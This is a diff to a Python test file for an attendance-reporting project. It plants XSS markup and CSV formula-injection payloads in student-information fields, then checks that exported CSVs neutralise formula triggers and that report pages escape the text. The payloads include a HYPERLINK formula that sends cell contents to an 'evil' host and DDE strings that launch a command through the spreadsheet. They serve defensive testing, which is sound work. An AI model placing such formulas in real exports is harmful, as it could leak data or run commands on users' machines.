@@ -12,18 +12,27 @@ included) must run none of them: a payload that runs appends ``XSS`` + ``RAN`` t
 ``--dump-dom`` shows. The same payload, written raw into a page by the test, shows the detector
 works. Administrators still read the plain text: the refusal in the JSON, the run log and the
 page is the name as the SIS holds it, never ``&lt;``.
+
+Issue 30 (SIS text becomes a spreadsheet formula): every SIS text that reaches a detail CSV (a code's
+letter and description, the blank code's description, the student numbers) starts with a formula
+too, each trigger of OWASP's list in some cell. Every cell of every CSV the runs wrote, read with
+Python's csv module as a spreadsheet reads it, starts with none of them unless it is a number, and
+the run page still shows the text as the SIS holds it, escaped once.
 """
 
 from __future__ import annotations
 
+import csv
 import html
 import json
 import re
 from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 
+import markupsafe
 import pytest
 from attendance_bridge.checks.data_docs import with_policy
+from attendance_bridge.reporting.publish import ROWS_SHOWN
 from attendance_bridge.reporting.run_folders import run_folder_name
 
 from tests.reporting.test_pages_in_browser import open_in_browser
@@ -46,6 +55,18 @@ def payload(field: str) -> str:
 # Whatever a page shows as text, none of these may be in its source.
 MARKUP = ("<svg onload", f"<script>{RUNS}", "<img src=x onerror", "<b>")
 
+# Issue 30: what a spreadsheet runs, before the markup of each SIS text that reaches a CSV. The review's
+# pair: a code and its description that made a working formula in the code's cell ("T (Tardy)").
+FORMULA_CODE = '=HYPERLINK("http://evil?"&B2&C2,"x")&T("'
+FORMULA_DESCRIPTION = '")&"'
+# The blank (Present) code's description starts its cell: "Present (no code)".
+FORMULA_PRESENT = "@SUM(1+1)*cmd|' /C calc'!A0"
+# A student number starts its cell: each student gets one of these (by id), so every trigger is in a CSV.
+FORMULA_STUDENT_NUMBERS = ("+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
+# OWASP's triggers; a cell starting with one runs in a spreadsheet, unless it is a number.
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
+
 
 def plant(box: Sandbox, school: int) -> dict[str, str]:
     """A payload in every SIS text field of ``school`` that a page can show; {field: payload}."""
@@ -54,8 +75,9 @@ def plant(box: Sandbox, school: int) -> dict[str, str]:
         "bell schedule": payload("schedule"),
         "period name": payload("period"),
         "period abbreviation": payload("per"),
-        "code letter": payload("code"),
-        "code description": payload("description"),
+        "code letter": FORMULA_CODE + payload("code"),
+        "code description": FORMULA_DESCRIPTION + payload("description"),
+        "present description": FORMULA_PRESENT + payload("present"),
         "student number": payload("student"),
         "comment": payload("comment"),
         "term name": payload("term"),
@@ -82,8 +104,14 @@ def plant(box: Sandbox, school: int) -> dict[str, str]:
         c=planted["code letter"], d=planted["code description"], s=school,
     )  # fmt: skip
     box.q(
-        "UPDATE {sis}.students SET student_number = %(v)s || student_number WHERE schoolid = %(s)s",
-        v=planted["student number"], s=school,
+        "UPDATE {sis}.attendance_code SET description = %(d)s || coalesce(description, '') "
+        "WHERE schoolid = %(s)s AND coalesce(att_code, '') = ''",
+        d=planted["present description"], s=school,
+    )  # fmt: skip
+    box.q(
+        "UPDATE {sis}.students SET student_number = (%(f)s::text[])[1 + id %% 4] || %(v)s || student_number "
+        "WHERE schoolid = %(s)s",
+        f=list(FORMULA_STUDENT_NUMBERS), v=planted["student number"], s=school,
     )  # fmt: skip
     box.q("UPDATE {sis}.attendance SET att_comment = %(v)s WHERE schoolid = %(s)s", v=planted["comment"], s=school)
     box.q(
@@ -92,6 +120,40 @@ def plant(box: Sandbox, school: int) -> dict[str, str]:
         n=planted["term name"], a=planted["term abbreviation"], s=school,
     )  # fmt: skip
     return planted
+
+
+def csv_cells(base: Path) -> dict[Path, list[list[str]]]:
+    """Every CSV under the reports base, read as a spreadsheet reads it: {file: rows of cells}."""
+    read = {}
+    for path in sorted(base.rglob("*.csv")):
+        with path.open(newline="") as handle:
+            read[path] = list(csv.reader(handle))
+    return read
+
+
+def assert_no_formula_in_any_csv(base: Path) -> dict[Path, list[list[str]]]:
+    """No cell of any CSV starts with a trigger unless it is a number; the CSVs' cells."""
+    read = csv_cells(base)
+    formulas = [
+        f"{path.relative_to(base)}: {cell!r}"
+        for path, rows in read.items()
+        for row in rows
+        for cell in row
+        if cell.startswith(TRIGGERS) and not NUMBER.fullmatch(cell)
+    ]
+    assert not formulas, formulas[:20]
+    return read
+
+
+def assert_the_page_shows_the_csv_text_as_the_sis_holds_it(page: Path, rows: list[list[str]]) -> list[str]:
+    """Each neutralised cell of a CSV's first rows is on the run page without its quote, escaped once; those cells."""
+    source = page.read_bytes().decode("utf-8")  # not read_text: it would make each \r a \n
+    assert not re.search(r"<td[^>]*>&#39;[=+\-@\t\r]", source)  # no quote of the CSV's on the page
+    neutralised = [cell for row in rows[1 : ROWS_SHOWN + 1] for cell in row if cell[1:].startswith(TRIGGERS)]
+    for cell in neutralised:
+        assert cell.startswith("'")
+        assert f">{markupsafe.escape(cell[1:])}</td>" in source, cell
+    return neutralised
 
 
 def html_files(base: Path) -> list[Path]:
@@ -215,6 +277,21 @@ def test_sis_text_in_a_sync_its_rollback_and_refused_runs_is_text_in_every_page(
     loaded_page = doms[sandbox.reports / "school_100" / run_folder_name(loaded["dag_id"], loaded["run_id"]) / "report.html"]
     assert shown(planted["school name"]) in loaded_page
     assert shown(planted["code letter"]) in loaded_page and shown(planted["student number"]) in loaded_page
+
+    # Issue 30: the CSVs hold no formula a spreadsheet runs, and the page shows the text as the SIS holds it.
+    cells = assert_no_formula_in_any_csv(sandbox.reports)
+    loaded_folder = sandbox.reports / "school_100" / run_folder_name(loaded["dag_id"], loaded["run_id"])
+    assert {path.parent for path in cells} == {loaded_folder}  # the refused runs and the rollback write none
+    shown_cells = [
+        cell
+        for path, rows in cells.items()
+        for cell in assert_the_page_shows_the_csv_text_as_the_sis_holds_it(loaded_folder / "report.html", rows)
+    ]
+    starts = {cell[:2] for cell in shown_cells}
+    assert starts == {"'=", "'@", "'+", "'-", "'\t", "'\r"}, starts  # every trigger reached a CSV, and the page
+    code_cell = f"{planted['code letter']}T ({planted['code description']}Tardy)"
+    assert f">{shown(code_cell)}</td>" in loaded_page  # the review's formula, as text in the browser
+    assert f">{shown(planted['present description'])}Present (no code)</td>" in loaded_page
     typo_page = doms[sandbox.reports / "school_100" / run_folder_name(typo["dag_id"], typo["run_id"]) / "report.html"]
     assert shown(typo["message"]) in typo_page
     assert shown(json.dumps(payload("conf"), ensure_ascii=False)) in typo_page  # the conf as given
